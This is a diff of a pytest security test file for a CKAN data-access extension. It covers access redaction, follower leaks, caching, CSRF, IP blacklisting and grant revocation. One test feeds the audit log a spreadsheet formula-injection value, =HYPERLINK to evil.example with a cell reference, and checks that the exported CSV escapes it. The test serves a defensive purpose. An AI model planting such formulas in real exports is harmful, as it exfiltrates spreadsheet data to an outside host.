@@ -8,6 +8,7 @@ import json
 import re
 
 import pytest
+from acting import apply_for, as_user, signed_in
 from ckan import model
 from ckan.lib import search
 from ckan.logic import NotAuthorized, NotFound, ValidationError
@@ -66,10 +67,6 @@ def _user(name=None):
     return factories.User(**({"name": name} if name else {}))
 
 
-def _as(user):
-    return {"user": user["name"], "ignore_auth": False}
-
-
 # -- finding 1: resource_search ------------------------------------------------
 @pytest.mark.usefixtures("catalogue")
 def test_resource_search_lists_only_disclosed_files():
@@ -94,7 +91,7 @@ def test_core_searches_called_directly_refuse_outsiders(action, data, sysadmin):
     `search_query` mode, whose answer is Resource objects."""
     from ckan.logic.action import get as core
 
-    for context in (dict(ANONYMOUS), _as(_user()), dict(ANONYMOUS, search_query=True)):
+    for context in (dict(ANONYMOUS), as_user(_user()), dict(ANONYMOUS, search_query=True)):
         with pytest.raises(NotAuthorized):
             getattr(core, action)(dict(context, model=model, session=model.Session), dict(data))
     # sysadmins may; through the registry outsiders get the redacted answer
@@ -211,11 +208,11 @@ def test_followee_lists_give_no_withheld_file():
     user = _user()
     for name in CASES:
         try:
-            call_action("follow_dataset", context=_as(user), id=name)
+            call_action("follow_dataset", context=as_user(user), id=name)
         except NotAuthorized:
             assert name == "classified-data"  # one may not follow what one may not see
     for action in ("dataset_followee_list", "followee_list"):
-        listed = call_action(action, context=_as(user), id=user["name"])
+        listed = call_action(action, context=as_user(user), id=user["name"])
         assert withheld_in(as_text(listed)) == [], action
         assert len(listed) == 4, action
 
@@ -280,13 +277,15 @@ def test_a_users_dataset_count_leaves_out_classified(sysadmin):
     database (number_created_packages): for an outsider the count must not
     tell of the classified one either."""
     visible = sum(1 for _, shown, _ in CASES.values() if shown)
-    for context in (dict(ANONYMOUS), _as(_user())):
+    for context in (dict(ANONYMOUS), as_user(_user())):
         shown = call_action("user_show", context=dict(context), id=sysadmin["name"])
         assert shown["number_created_packages"] == visible
         listed = {u["name"]: u for u in call_action("user_list", context=dict(context))}
         assert listed[sysadmin["name"]]["number_created_packages"] == visible
     # the creator's own count is core's, all of them
-    assert call_action("user_show", context=_as(sysadmin), id=sysadmin["name"])["number_created_packages"] == len(CASES)
+    assert call_action("user_show", context=as_user(sysadmin), id=sysadmin["name"])["number_created_packages"] == len(
+        CASES
+    )
 
 
 @pytest.mark.usefixtures("catalogue")
@@ -294,27 +293,26 @@ def test_follower_answers_about_classified_are_those_of_a_missing_dataset(sysadm
     """dataset_follower_count and am_following_dataset answered for any
     stored id: a count (or yes/no) for the classified dataset's name, an
     error for a name nobody took, so a guessed name could be confirmed."""
-    call_action("follow_dataset", context=_as(sysadmin), id="classified-data")
+    call_action("follow_dataset", context=as_user(sysadmin), id="classified-data")
     outsider = _user()
-    calls = [("dataset_follower_count", dict(ANONYMOUS)), ("dataset_follower_count", _as(outsider))]
-    for action, context in calls + [("am_following_dataset", _as(outsider))]:
+    calls = [("dataset_follower_count", dict(ANONYMOUS)), ("dataset_follower_count", as_user(outsider))]
+    for action, context in calls + [("am_following_dataset", as_user(outsider))]:
         with pytest.raises(ValidationError) as hidden:
             call_action(action, context=dict(context), id="classified-data")
         with pytest.raises(ValidationError) as missing:
             call_action(action, context=dict(context), id="no-such-data")
         assert hidden.value.error_dict == missing.value.error_dict, action
     assert call_action("dataset_follower_count", context=dict(ANONYMOUS), id="open-data") == 0
-    assert call_action("dataset_follower_count", context=_as(sysadmin), id="classified-data") == 1
+    assert call_action("dataset_follower_count", context=as_user(sysadmin), id="classified-data") == 1
 
 
-_APPLICATION = {"id": "conditional-data", "purpose": "研究", "intended_use": "论文", "applicant_unit": "某大学"}
 _APPROVAL = {"decision": "approve", "reason": "符合条件", "days": 7}
 
 
 def test_rdf_page_cache_follows_the_grant(app, catalogue, sysadmin):
     applicant = _user()
-    token = {"Authorization": factories.APIToken(user=applicant["name"])["token"]}
-    request = call_action("sdm_access_request_create", context=_as(applicant), **_APPLICATION)
+    token = signed_in(applicant)
+    request = apply_for(applicant, "conditional-data")
     call_action("sdm_access_request_decide", context={"user": sysadmin["name"]}, id=request["id"], **_APPROVAL)
     # ckanext-dcat's own profiles write what package_show gives the viewer
     page = f"/dataset/{catalogue['conditional-data']['id']}.ttl?profiles=euro_dcat_ap_2"
@@ -324,7 +322,7 @@ def test_rdf_page_cache_follows_the_grant(app, catalogue, sysadmin):
     assert url("conditional-data") not in app.get(page, headers=token).body
     assert url("conditional-data") not in app.get("/catalog.ttl?profiles=euro_dcat_ap_2", headers=token).body
     # a grant that runs out (no one revokes it) stops the cached page too
-    again = call_action("sdm_access_request_create", context=_as(applicant), **_APPLICATION)
+    again = apply_for(applicant, "conditional-data")
     call_action("sdm_access_request_decide", context={"user": sysadmin["name"]}, id=again["id"], **_APPROVAL)
     assert url("conditional-data") in app.get(page, headers=token).body  # cached again
     from ckanext.sdm.model import AccessRequest, utcnow
@@ -337,7 +335,7 @@ def test_rdf_page_cache_follows_the_grant(app, catalogue, sysadmin):
 def test_rdf_page_cache_follows_membership(app, catalogue, responsible_unit, sysadmin):
     member = _user()
     call_action("organization_member_create", id=responsible_unit["id"], username=member["name"], role="member")
-    token = {"Authorization": factories.APIToken(user=member["name"])["token"]}
+    token = signed_in(member)
     page = f"/dataset/{catalogue['closed-data']['id']}.ttl?profiles=euro_dcat_ap_2"
     catalogue_page = "/catalog.ttl?profiles=euro_dcat_ap_2"
     assert url("closed-data") in app.get(page, headers=token).body  # members see the files; cached now
@@ -360,7 +358,7 @@ def test_an_ended_membership_ends_the_search_within_the_same_request(app, catalo
     with app.flask_app.test_request_context():
 
         def found():
-            return call_action("package_search", context=_as(member), q="name:classified-data")["count"]
+            return call_action("package_search", context=as_user(member), q="name:classified-data")["count"]
 
         assert found() == 1 and found() == 1  # the labels are remembered now
         call_action(
@@ -377,13 +375,13 @@ def test_audit_csv_cells_are_never_formulas(app, catalogue, sysadmin):
     applicant = _user()
     call_action(
         "sdm_access_request_create",
-        context=_as(applicant),
+        context=as_user(applicant),
         id="conditional-data",
         purpose='=HYPERLINK("https://evil.example/?"&A1,"click")',
         intended_use="+1",
         applicant_unit="@unit",
     )
-    admin = {"Authorization": factories.APIToken(user=sysadmin["name"])["token"]}
+    admin = signed_in(sysadmin)
     rows = list(csv.DictReader(io.StringIO(app.get("/ckan-admin/sdm/audit.csv", headers=admin).body)))
     details = [r["detail"] for r in rows if r["action"] == "access_request"]
     assert details == ['\'=HYPERLINK("https://evil.example/?"&A1,"click")']
@@ -399,7 +397,7 @@ def test_anonymous_requests_write_no_audit_rows(app, catalogue):
     assert call_action("sdm_audit_list") == []
     # a signed-in user's download of a real file is audited, with ids from the database
     user = _user()
-    token = {"Authorization": factories.APIToken(user=user["name"])["token"]}
+    token = signed_in(user)
     app.get(f"/dataset/open-data/resource/{open_resource}/download", headers=token, follow_redirects=False)
     app.get("/dataset/open-data/resource/made-up-id/download", headers=token, follow_redirects=False)
     rows = call_action("sdm_audit_list")
@@ -427,13 +425,13 @@ def test_extension_forms_need_a_csrf_token(app, catalogue):
     form = {"purpose": "研究", "intended_use": "论文", "applicant_unit": "某大学"}
     forged = browser.post("/dataset/conditional-data/access-request", data=form, follow_redirects=False)
     assert forged.status_code == 400
-    assert call_action("sdm_access_request_list", context=_as(user)) == []
+    assert call_action("sdm_access_request_list", context=as_user(user)) == []
     token = _csrf_token(browser, "/dataset/conditional-data/access-request")
     sent = browser.post(
         "/dataset/conditional-data/access-request", data=dict(form, _csrf_token=token), follow_redirects=False
     )
     assert sent.status_code in (302, 303)
-    assert len(call_action("sdm_access_request_list", context=_as(user))) == 1
+    assert len(call_action("sdm_access_request_list", context=as_user(user))) == 1
 
 
 def test_ipv4_mapped_ipv6_addresses_are_blacklisted(app, catalogue, sysadmin):
@@ -441,7 +439,7 @@ def test_ipv4_mapped_ipv6_addresses_are_blacklisted(app, catalogue, sysadmin):
     open_resource = catalogue["open-data"]["resources"][0]["id"]
     path = f"/dataset/open-data/resource/{open_resource}/download"
     user = _user()
-    token = {"Authorization": factories.APIToken(user=user["name"])["token"]}
+    token = signed_in(user)
     for address in ("203.0.113.9", "::ffff:203.0.113.9", "::ffff:cb00:7109"):
         assert (
             app.get(path, headers=token, environ_overrides={"REMOTE_ADDR": address}, follow_redirects=False).status_code
@@ -514,30 +512,23 @@ def test_a_revoked_grant_withholds_the_files_at_once(catalogue, sysadmin, respon
     applicant, stranger = _user(), _user()
     editor = _user()
     call_action("organization_member_create", id=responsible_unit["id"], username=editor["name"], role="editor")
-    request = call_action(
-        "sdm_access_request_create",
-        context=_as(applicant),
-        id="conditional-data",
-        purpose="研究",
-        intended_use="论文",
-        applicant_unit="某大学",
-    )
+    request = apply_for(applicant, "conditional-data")
     call_action(
         "sdm_access_request_decide",
-        context=_as(editor),
+        context=as_user(editor),
         id=request["id"],
         decision="approve",
         reason="符合条件",
         days=30,
     )
-    assert call_action("package_show", context=_as(applicant), id="conditional-data")["resources"]
+    assert call_action("package_show", context=as_user(applicant), id="conditional-data")["resources"]
     with pytest.raises(NotAuthorized):  # only the unit's editors and sysadmins
-        call_action("sdm_access_request_revoke", context=_as(stranger), id=request["id"], reason="x")
+        call_action("sdm_access_request_revoke", context=as_user(stranger), id=request["id"], reason="x")
     with pytest.raises(ValidationError):  # a reason is required
-        call_action("sdm_access_request_revoke", context=_as(editor), id=request["id"], reason="")
-    revoked = call_action("sdm_access_request_revoke", context=_as(editor), id=request["id"], reason="违反协议")
+        call_action("sdm_access_request_revoke", context=as_user(editor), id=request["id"], reason="")
+    revoked = call_action("sdm_access_request_revoke", context=as_user(editor), id=request["id"], reason="违反协议")
     assert revoked["status"] == "revoked" and not revoked["active"]
-    assert call_action("package_show", context=_as(applicant), id="conditional-data")["resources"] == []
+    assert call_action("package_show", context=as_user(applicant), id="conditional-data")["resources"] == []
     with pytest.raises(NotAuthorized):
-        call_action("resource_show", context=_as(applicant), id=catalogue["conditional-data"]["resources"][0]["id"])
+        call_action("resource_show", context=as_user(applicant), id=catalogue["conditional-data"]["resources"][0]["id"])
     assert call_action("sdm_audit_list")[-1]["outcome"] == "revoked"
